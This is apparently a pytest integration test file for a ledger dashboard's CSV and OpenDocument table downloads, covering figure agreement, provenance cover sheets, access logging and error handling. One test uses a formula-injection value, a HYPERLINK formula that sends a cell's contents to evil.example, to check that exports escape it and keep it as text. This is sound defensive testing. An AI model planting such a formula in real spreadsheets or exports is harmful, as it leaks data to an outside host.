"""Every table of the dashboard downloads as CSV and as an OpenDocument spreadsheet, and
a download is the table on the page: the same rows, columns and figures, under the same
disclosure control for the same reader, with what they were computed from."""

from __future__ import annotations

import csv
import html
import io
import re
from html.parser import HTMLParser

import pytest
import sqlalchemy as sa
from odf.opendocument import load
from odf.table import Table as Sheet
from odf.table import TableCell, TableRow

from services.ledger import followers, service
from services.ledger.models import AccessLog
from services.ledger.webhooks.settings import Settings
from tests.integration.conftest import MakeApp
from tests.integration.test_dashboard import YEAR, sign_in
from tests.integration.test_metrics import Ledger
from tests.support import appending
from tests.support import events as ev
from tests.support.scenario import events as scenario

AREA_PAGE = f"/dashboard/areas/recruitment?{YEAR}"
OVERVIEW_PAGE = f"/dashboard?{YEAR}"


@pytest.fixture
def ledger(make_app: MakeApp) -> Ledger:
    ledger = Ledger(make_app("ledger"))
    ledger.append(scenario())
    return ledger


class _Tables(HTMLParser):
    """Each <table> of a page, by its caption's id: its rows of cell texts."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._rows: list[list[str]] | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self._rows = []
        elif tag == "caption" and self._rows is not None:
            self.tables[dict(attrs)["id"] or ""] = self._rows
        elif tag == "tr" and self._rows is not None:
            self._rows.append([])
        elif tag in ("td", "th") and self._rows is not None:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._rows is not None and self._cell is not None:
            self._rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "table":
            self._rows = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def _tables(page: str) -> dict[str, list[list[str]]]:
    parser = _Tables()
    parser.feed(page)
    return {caption.removesuffix("-caption"): rows for caption, rows in parser.tables.items()}


def _links(page: str) -> list[str]:
    return sorted({html.unescape(link) for link in re.findall(
        r'href="(/dashboard/(?:areas/\w+/)?tables/[^"]+)"', page)})


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _agrees(shown: str, cell: str) -> bool:
    """A page's figure and the download's: the same, or the same marker."""
    if cell == "[c]":
        return shown == "suppressed"
    if cell == "[z]":
        return shown == "–"
    number = float(shown.replace(",", "").removesuffix("%"))
    return abs(number - float(cell)) <= 0.05 + 1e-9


def _sheets(data: bytes) -> dict[str, list[list[str]]]:
    """Each sheet of an ODS file: its rows of cell texts, numbers as their values."""
    doc = load(io.BytesIO(data))
    found = {}
    for sheet in doc.spreadsheet.getElementsByType(Sheet):
        rows = []
        for row in sheet.getElementsByType(TableRow):
            cells = []
            for cell in row.getElementsByType(TableCell):
                kind = cell.getAttribute("valuetype")
                cells.append(str(float(cell.getAttribute("value"))) if kind == "float"
                             else str(cell))
            rows.append(cells)
        found[sheet.getAttribute("name")] = rows
    return found


@pytest.mark.parametrize(("page_path", "names"), [
    (AREA_PAGE, {"figures", "ladder", "trend", "people", "units"}),
    (OVERVIEW_PAGE, {"areas", "ladders", "ladder_shares", "trend"}),
])
def test_every_table_downloads_as_the_page_shows_it(
        ledger: Ledger, page_path: str, names: set[str]) -> None:
    http = ledger.app.test_client()
    sign_in(http, ledger.auditor)
    page = http.get(page_path).text
    links = _links(page)
    # Each table as CSV and ODS, and the whole page as one spreadsheet.
    assert {re.search(r"tables/(\w+)\.(\w+)", link).groups() for link in links} == {  # type: ignore[union-attr]
        *((name, fmt) for name in names for fmt in ("csv", "ods")), ("all", "ods")}
    on_page = _tables(page)
    for link in links:
        answer = http.get(link)
        assert answer.status_code == 200, (link, answer.text)
        assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
        assert answer.headers["Cache-Control"] == "no-store"
        name = re.search(r"tables/(\w+)\.", link).group(1)  # type: ignore[union-attr]
        if not link.split("?")[0].endswith(".csv"):
            assert answer.mimetype == "application/vnd.oasis.opendocument.spreadsheet"
            continue
        assert answer.mimetype == "text/csv"
        rows = _csv(answer.text)
        if name == "figures":  # the headline, a list on the page: figure by figure
            shown = {m[0]: re.sub(r"<[^>]+>", "", m[1]).strip() for m in re.findall(
                r'<dd data-figure="(\w+)">(.*?)</dd>', page, re.S)}
            assert len(rows) == 18 and rows[0] == ["Figure", "Value"]
            by_label = dict(rows[1:])
            assert _agrees(shown["coverage"], by_label["Coverage (%)"])
            assert _agrees(shown["index"], by_label["Involvement Index"])
            assert _agrees(shown["involvements"], by_label["Involvements"])
            continue
        table = on_page[{"areas": "shares"}.get(name, name)]
        # The same rows and columns, by their labels; "(%)" marks a share.
        assert [h.removesuffix(" (%)") for h in rows[0]] == table[0]
        assert [r[0].removesuffix(" (%)") for r in rows[1:]] == [r[0] for r in table[1:]]
        for mine, theirs in zip(rows[1:], table[1:], strict=True):
            for cell, shown in zip(mine[1:], theirs[1:], strict=True):
                assert _agrees(shown, cell), (name, mine[0], shown, cell)


def test_a_spreadsheet_holds_every_table_and_the_signed_tree_head_it_was_computed_from(
        ledger: Ledger) -> None:
    http = ledger.app.test_client()
    sign_in(http, ledger.auditor)
    sheets = _sheets(http.get(f"/dashboard/areas/recruitment/tables/all.ods?{YEAR}").data)
    assert list(sheets) == ["Cover", "Figures", "Ladder", "Trend", "People", "Units"]
    cover = {row[0]: row[1] for row in sheets["Cover"]}
    sth = ledger.get("/ct/v1/get-sth").json
    assert cover["Tree size"] == str(sth["tree_size"]) == "26"
    assert cover["Root hash"] == sth["sha256_root_hash"]
    assert cover["Tree head signature"] == sth["tree_head_signature"]
    assert cover["Computed from"].startswith("the 26 entries of the signed tree head")
    assert cover["Log"] == ledger.get("/v1/public-key").json["vkey"]
    assert "cell key random rounding (base 5, threshold 10)" in cover["Figures"]
    assert cover["Downloaded by"] == "board" and cover["[c]"].startswith("withheld")
    # Each sheet: the table's title, its header, then its rows, as the CSV has them.
    for name in ("ladder", "trend", "people", "units"):
        rows = _csv(http.get(f"/dashboard/areas/recruitment/tables/{name}.csv?{YEAR}").text)
        sheet = sheets[name.capitalize()]
        assert sheet[1:] == [[c if not re.fullmatch(r"-?[\d.]+", c) or i == 0
                              else str(float(c)) for i, c in enumerate(row)] for row in rows]
    # The downloads are reads of the ledger like any page: in the access log.
    with ledger.app.extensions["db"].reading() as session:
        paths = list(session.scalars(sa.select(AccessLog.path).where(
            AccessLog.token_name == "board")))
    assert f"/dashboard/areas/recruitment/tables/all.ods?{YEAR}" in paths


def test_an_admin_downloads_exact_figures_labelled_as_exact(ledger: Ledger) -> None:
    http = ledger.app.test_client()
    sign_in(http, ledger.admin)
    rows = _csv(http.get(f"/dashboard/areas/recruitment/tables/trend.csv?{YEAR}").text)
    assert rows[1] == ["Q1 2026", "3", "100.0", "4", "6.0", "50.0", "77.9"]
    cover = {r[0]: r[1] for r in _sheets(http.get(
        f"/dashboard/areas/recruitment/tables/trend.ods?{YEAR}").data)["Cover"]}
    assert cover["Figures"].startswith("exact, as an admin reads them")


def test_figures_the_measures_have_not_caught_up_with_say_so(ledger: Ledger) -> None:
    db, signer = ledger.app.extensions["db"], ledger.app.extensions["signer"]
    late = [ev.activity("recruitment", "east", time="2026-02-01T10:00:00Z")]
    assert service.append_batch(db, late, signer).rejected == 0
    http = ledger.app.test_client()
    sign_in(http, ledger.auditor)
    def cover() -> dict[str, str]:
        return {r[0]: r[1] for r in _sheets(http.get(
            f"/dashboard/tables/all.ods?{YEAR}").data)["Cover"]}

    # The figures are those of the head before it, which they name.
    assert cover()["Computed from"] == ("the 26 entries of the signed tree head below, "
                                        "every one of them counted; the log has 1 newer, "
                                        "not counted yet")
    assert cover()["Tree size"] == "26"
    # Part of a batch counted: no signed head is of that size.
    two = [ev.activity("recruitment", "east", time="2026-02-02T10:00:00Z"),
           ev.activity("recruitment", "east", time="2026-02-03T10:00:00Z")]
    assert service.append_batch(db, two, signer).rejected == 0
    followers.step(db, followers.MEASURES, Settings.defaults(), limit=2)
    assert cover()["Computed from"] == ("the log's first 28 entries; the latest signed tree "
                                        "head, of size 29, has 1 more, not counted yet")
    assert "Tree size" not in cover()
    appending.follow(db)
    assert cover()["Tree size"] == "29"


def test_a_unit_named_like_a_formula_downloads_as_text(make_app: MakeApp) -> None:
    ledger = Ledger(make_app("ledger"))
    unit = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ledger.append([ev.activity("recruitment", unit, time="2026-03-01T10:00:00Z")])
    http = ledger.app.test_client()
    sign_in(http, ledger.admin)
    rows = _csv(http.get(f"/dashboard/areas/recruitment/tables/units.csv?{YEAR}").text)
    assert rows[1][0] == "'" + unit
    sheet = _sheets(http.get(f"/dashboard/areas/recruitment/tables/units.ods?{YEAR}").data)
    assert sheet["Units"][2][0] == unit  # typed as text in the spreadsheet: it never runs
    # The API's CSV of the measures, for people too; the entries export, for programs,
    # keeps the name as it was recorded.
    exported = _csv(ledger.get("/v1/exports/metrics", ledger.admin, area="recruitment",
                               group_by="org_unit", period="year", **{
                                   "from": "2026-01-01", "to": "2026-12-31"}).text)
    assert [row[1] for row in exported[1:-1]] == ["'" + unit]


@pytest.mark.parametrize(("path", "status"), [
    (f"/dashboard/tables/all.csv?{YEAR}", 404),
    (f"/dashboard/tables/nothing.csv?{YEAR}", 404),
    (f"/dashboard/tables/areas.xlsx?{YEAR}", 404),
    (f"/dashboard/tables/ladder.csv?{YEAR}", 404),  # an area page's table, not this one's
    (f"/dashboard/areas/nowhere/tables/trend.csv?{YEAR}", 404),
    (f"/dashboard/areas/recruitment/tables/trend.csv?{YEAR}&org_unit=nowhere", 404),
    ("/dashboard/areas/recruitment/tables/trend.csv?period=decade", 422),
    ("/dashboard/areas/recruitment/tables/trend.csv?from=2026-12-01&to=2026-01-01", 422),
    ("/dashboard/tables/areas.csv?from=2026-02-30", 422),
])
def test_a_bad_download_gets_the_error_page(ledger: Ledger, path: str, status: int) -> None:
    http = ledger.app.test_client()
    sign_in(http, ledger.auditor)
    answer = http.get(path)
    assert answer.status_code == status
    assert answer.mimetype == "text/html" and f"<h1>{status}" in answer.text \
        or str(status) in answer.text


def test_a_download_needs_a_session(ledger: Ledger) -> None:
    answer = ledger.app.test_client().get(f"/dashboard/tables/areas.csv?{YEAR}")
    assert answer.status_code == 302
    assert answer.headers["Location"].startswith("/dashboard/sign-in?next=")
